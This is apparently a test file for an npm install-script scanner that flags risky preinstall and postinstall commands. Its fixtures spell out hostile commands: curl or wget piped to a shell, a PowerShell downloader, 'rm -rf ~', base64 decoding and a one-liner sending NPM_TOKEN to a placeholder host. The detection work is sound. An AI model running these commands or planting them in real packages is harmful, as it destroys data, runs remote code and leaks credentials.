import { describe, expect, it } from 'vitest';
import { analyseInstallScripts } from './install-scripts.js';

const scripts = (s: Record<string, string>) => ({ name: 'p', version: '1.0.0', scripts: s });
const ids = (m: Record<string, unknown>, text?: string, o = {}) =>
  analyseInstallScripts(m, text, o).signals.map((s) => `${s.ruleId}:${s.severity}`);

describe('analyseInstallScripts', () => {
  it('reports nothing without install scripts; test/build/prepare scripts do not run on registry installs', () => {
    expect(analyseInstallScripts(scripts({ test: 'curl x | sh', prepare: 'curl x | sh' }))).toEqual({
      signals: [],
      entryFiles: [],
      inlineCode: [],
    });
  });

  it('analyses prepare for git dependencies', () => {
    expect(ids(scripts({ prepare: 'curl http://x | sh' }), undefined, { gitDependency: true })).toEqual([
      'npm.capability.install-script:info',
      'npm.threat.download-exec:high',
    ]);
  });

  it.each([
    'husky install',
    'husky',
    'node-gyp rebuild',
    'prebuild-install || node-gyp rebuild',
    'prebuild-install -r napi || node-gyp rebuild --release',
    'node-gyp-build',
    'patch-package',
    'opencollective-postinstall || true',
    'is-ci || husky install',
    'tsc -p tsconfig.json',
    'echo "thanks for installing"',
    'exit 0',
    'ngcc --properties es2015',
    'npx only-allow pnpm',
    'node-pre-gyp install --fallback-to-build',
  ])('allowlists `%s` (capability only)', (cmd) => {
    expect(ids(scripts({ postinstall: cmd }))).toEqual(['npm.capability.install-script:info']);
    expect(ids(scripts({ preinstall: cmd }))).toEqual(['npm.capability.install-script:info']);
  });

  it('turns `node <file>` into entry files (esbuild, scripts/postinstall.js)', () => {
    const r = analyseInstallScripts(
      scripts({ postinstall: 'node install.js', preinstall: 'node ./scripts/pre' }),
    );
    expect(r.entryFiles).toEqual(['install.js', 'scripts/pre.js']);
    expect(r.signals.map((s) => s.ruleId)).toEqual([
      'npm.capability.install-script',
      'npm.capability.install-script',
    ]);
  });

  it('resolves entry files against the package files and drops paths outside the package', () => {
    const r = analyseInstallScripts(
      scripts({ install: 'node lib/setup && node ../../evil.js && node --max-old-space-size=100 bin/x' }),
      undefined,
      { files: ['lib/setup/index.js', 'bin/x.cjs'] },
    );
    expect(r.entryFiles).toEqual(['bin/x.cjs', 'lib/setup/index.js']);
  });

  it('treats node -e "try{require(\'./postinstall\')}catch(e){}" as the file postinstall.js', () => {
    const r = analyseInstallScripts(
      scripts({ postinstall: `node -e "try{require('./postinstall')}catch(e){}"` }),
    );
    expect(r.entryFiles).toEqual(['postinstall.js']);
    expect(r.inlineCode).toEqual([]);
    expect(r.signals.map((s) => s.ruleId)).toEqual(['npm.capability.install-script']);
  });

  it('returns other inline node code as a virtual file and reports it', () => {
    const code = "require('https').get('https://x.example/'+process.env.NPM_TOKEN)";
    const r = analyseInstallScripts(scripts({ postinstall: `node -e "${code}"` }));
    expect(r.inlineCode).toEqual([{ name: 'package.json#scripts.postinstall', code }]);
    expect(r.signals.map((s) => `${s.ruleId}:${s.severity}`)).toEqual([
      'npm.capability.install-script:info',
      'npm.threat.install-script:medium',
    ]);
  });

  it('reports `curl http://x | sh` in preinstall as high, with the line of the key', () => {
    const manifest = scripts({ preinstall: 'curl http://x | sh' });
    const text = JSON.stringify(manifest, null, 2);
    const r = analyseInstallScripts(manifest, text);
    expect(r.signals.map((s) => [s.ruleId, s.severity, s.category, s.file, s.line])).toEqual([
      ['npm.capability.install-script', 'info', 'install-script', 'package.json', 5],
      ['npm.threat.preinstall-script', 'high', 'install-hook', 'package.json', 5],
      ['npm.threat.download-exec', 'high', 'download-exec', 'package.json', 5],
    ]);
    expect(r.signals[1]?.message).toContain('`curl http://x`, `sh`');
  });

  it('reports unknown install/postinstall commands as medium', () => {
    expect(ids(scripts({ install: 'bash -c "make all"' }))).toEqual([
      'npm.capability.install-script:info',
      'npm.threat.install-script:medium',
    ]);
  });

  it.each([
    ['wget https://x.example/a -O /tmp/a', 'npm.threat.download-exec'],
    ['node x.js | bash', 'npm.threat.download-exec'],
    ['rm -rf ~', 'npm.threat.destructive-command'],
    ['rm -fr /', 'npm.threat.destructive-command'],
    ['rm -rf "$HOME"', 'npm.threat.destructive-command'],
    ['echo aGk= | base64 -d > /tmp/x', 'npm.threat.script-obfuscation'],
  ])('flags `%s` as %s (high)', (cmd, rule) => {
    const signals = analyseInstallScripts(scripts({ postinstall: cmd })).signals;
    expect(signals.filter((s) => s.ruleId === rule).map((s) => s.severity)).toEqual(['high']);
  });

  it.each([
    ['curl -fsSL https://x.example/i.sh -o i.sh && sh i.sh', 'downloads with `curl`'],
    ['bash -c "$(wget -qO- https://x.example/i)"', 'downloads with `wget`'],
    [
      'powershell -c "(New-Object Net.WebClient).DownloadString(\'https://x\')"',
      'downloads with `DownloadString`',
    ],
  ])('names the downloader in `%s`', (cmd, what) => {
    const s = analyseInstallScripts(scripts({ install: cmd })).signals.find(
      (x) => x.ruleId === 'npm.threat.download-exec',
    );
    expect(s?.message).toContain(what);
  });

  it('does not take a file name containing "curl" for a download', () => {
    expect(ids(scripts({ postinstall: 'node scripts/curl-helper.js' }))).toEqual([
      'npm.capability.install-script:info',
    ]);
  });

  it.each(['rm -rf build', 'rm -rf /tmp/build', 'rm -rf ~/.cache/p'])('does not call `%s` destructive', (cmd) => {
    expect(ids(scripts({ postinstall: cmd }))).toEqual([
      'npm.capability.install-script:info',
      'npm.threat.install-script:medium',
    ]);
  });

  it('does not allowlist echo with a redirection into a file', () => {
    expect(ids(scripts({ postinstall: 'echo x >> ~/.bashrc' }))).toContain(
      'npm.threat.install-script:medium',
    );
    expect(ids(scripts({ postinstall: 'echo x > /dev/null' }))).toEqual([
      'npm.capability.install-script:info',
    ]);
  });

  it('follows `npm run <script>` into the named script', () => {
    expect(ids(scripts({ postinstall: 'npm run build', build: 'tsc' }))).toEqual([
      'npm.capability.install-script:info',
    ]);
    expect(ids(scripts({ postinstall: 'npm run build', build: 'curl http://x | sh' }))).toEqual([
      'npm.capability.install-script:info',
      'npm.threat.install-script:medium',
      'npm.threat.download-exec:high',
    ]);
    expect(ids(scripts({ postinstall: 'npm run a', a: 'npm run a' }))).toContain(
      'npm.threat.install-script:medium',
    );
  });

  it('reports the implicit node-gyp rebuild of a binding.gyp', () => {
    const r = analyseInstallScripts({ name: 'p' }, undefined, { hasBindingGyp: true });
    expect(r.signals.map((s) => [s.ruleId, s.severity, s.file])).toEqual([
      ['npm.capability.install-script', 'info', 'binding.gyp'],
    ]);
    expect(analyseInstallScripts({ gypfile: false }, undefined, { hasBindingGyp: true }).signals).toEqual([]);
    expect(ids(scripts({ install: 'node-gyp-build' }), undefined, { hasBindingGyp: true })).toEqual([
      'npm.capability.install-script:info',
    ]);
  });
});
